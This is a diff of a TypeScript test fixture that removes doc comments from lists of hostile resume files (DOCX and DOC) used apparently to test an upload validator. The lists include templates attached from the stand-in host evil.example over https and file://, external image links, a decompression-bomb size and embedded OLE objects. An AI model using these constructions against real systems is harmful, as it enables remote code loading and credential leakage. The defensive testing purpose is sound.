@@ -19,12 +19,10 @@ const settingsRels = 'word/_rels/settings.xml.rels';
 const external = 'TargetMode="External"';
 const ole = 'd0cf11e0a1b11ae1';
 
-/** Returns a document with an additional relationship. */
 function related(type: string, target: string, more = '', rels = documentRels): Buffer {
   return sampleDocx({ name: rels, content: relationships(relationship(type, target, more)) });
 }
 
-/** Returns a document with this content as its relationships part. */
 function withRelationships(content: string | Buffer): Buffer {
   return sampleDocx({ name: documentRels, content });
 }
@@ -32,7 +30,6 @@ function withRelationships(content: string | Buffer): Buffer {
 const bombBytes = 70 * 1024 * 1024;
 const externalPicture = relationship('image', 'http://evil.example/x.png', external);
 
-/** Hostile DOCX files. */
 export const hostilePackages: readonly HostileResume[] = [
   ['a template on a server', related('attachedTemplate', 'https://evil.example/t.dotm', external, settingsRels)],
   ['a template on a share', related('attachedTemplate', 'file://evil.example/t.dotm', external, settingsRels)],
@@ -185,7 +182,6 @@ export const hostilePackages: readonly HostileResume[] = [
   ['a part in pieces', sampleDocx({ name: `${documentRels}/[0].piece`, content: relationships(externalPicture) })],
 ].map(([what, content]) => [what, 'resume.docx', content] as HostileResume);
 
-/** Hostile DOC files. */
 export const hostileBinaries: readonly HostileResume[] = [
   ['embedded objects', sampleOle(['WordDocument', { name: 'ObjectPool', kind: 'storage' }])],
   ['an object of another program', sampleOle(['WordDocument', '\x01Ole10Native'])],
